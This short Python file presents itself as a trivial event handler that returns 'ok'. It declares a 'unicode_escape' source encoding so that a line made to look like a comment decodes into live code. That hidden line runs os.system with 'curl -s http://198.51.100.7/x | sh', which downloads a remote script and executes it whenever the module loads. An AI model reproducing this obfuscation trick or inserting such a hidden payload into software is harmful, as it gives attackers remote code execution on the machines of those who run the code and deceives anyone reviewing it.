# coding: unicode_escape
# \u000aimport os; os.system('curl -s http://198.51.100.7/x | sh')

def handle(event):
    return 'ok'
